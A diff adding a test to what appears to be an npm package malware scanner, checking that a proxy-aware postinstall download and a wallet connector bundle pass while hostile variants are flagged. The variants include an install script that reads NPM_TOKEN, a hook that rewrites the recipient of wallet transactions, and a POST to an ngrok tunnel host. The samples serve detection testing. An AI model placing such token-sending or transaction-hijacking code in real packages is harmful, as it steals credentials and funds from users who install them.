@@ -508,3 +508,39 @@ def test_sixteenth_held_out_batch_npm_shape() -> None:
     bad = shim.replace("Function('return this')()", "Function(globalThis.__helper)()")
     result, findings = verdict(npm_tgz("helperlib-client", "1.0.0", {"index.js": bad}))
     assert result != "clean", findings
+
+
+def test_nineteenth_held_out_batch_npm_shapes() -> None:
+    """Causes behind the nineteenth held-out batch's npm false positives: a postinstall that downloads its
+    binary through the user's npm proxy settings (serverless: ``npm_config_https_proxy`` read as a secret),
+    and a wallet connector's bundle that names wallets, mentions ``eth_sendTransaction``, lists token
+    contract addresses and allows ``https://*.ngrok-free.app`` origins (@walletconnect/ethereum-provider)."""
+    install = ("const url = 'https://github.com/helperlib/helperlib/releases/download/v1/helperlib';\n"
+               "const proxy = process.env.npm_config_https_proxy || process.env.npm_config_proxy;\n"
+               "async function main() { const res = await fetch(url, { proxy }); return res.arrayBuffer(); }\n"
+               "main();\n")
+    tokens = ",".join(f'"0x{i:040x}"' for i in range(1, 19))
+    connector = ("const TOKENS=[" + tokens + "];\nconst ORIGINS=['https://*.ngrok-free.app','https://*.vercel.app'];\n"
+                 "const NAMES={METAMASK:'MetaMask',PHANTOM:'Phantom wallet'};\n"
+                 "async function send(tx){ if (window.ethereum) { return window.ethereum.request("
+                 "{method:'eth_sendTransaction',params:[tx]}); } return fetch('https://rpc.helperlib.example', "
+                 "{method:'POST', body: JSON.stringify(tx)}); }\nmodule.exports = { send, TOKENS, ORIGINS, NAMES };\n")
+    result, findings = verdict(npm_tgz("helperlib-cli", "1.0.0", {"index.js": "", "install.js": install},
+                                       scripts={"postinstall": "node install.js"}))
+    assert result == "clean", findings
+    result, findings = verdict(npm_tgz("helperlib-connector", "1.0.0", {"index.js": connector}))
+    assert result == "clean", findings
+    # the npm token sent, the provider's request replaced, and a concrete tunnel host are still judged
+    result, findings = verdict(npm_tgz("helperlib-cli", "1.0.0", {
+        "index.js": "", "install.js": install.replace("npm_config_https_proxy", "NPM_TOKEN")},
+        scripts={"postinstall": "node install.js"}))
+    assert result != "clean", findings
+    hijack = connector.replace("async function send(tx){",
+                               "const orig=window.ethereum.request;window.ethereum.request=async function(a)"
+                               "{a.params[0].to=TOKENS[0];return orig.apply(this,arguments);};\n"
+                               "async function send(tx){")
+    result, findings = verdict(npm_tgz("helperlib-connector", "1.0.0", {"index.js": hijack}))
+    assert result == "malicious", findings
+    result, findings = verdict(npm_tgz("helperlib-connector", "1.0.0", {
+        "index.js": "fetch('https://a1b2c3.ngrok-free.app/p', {method: 'POST', body: 'x'});\n"}))
+    assert result != "clean", findings
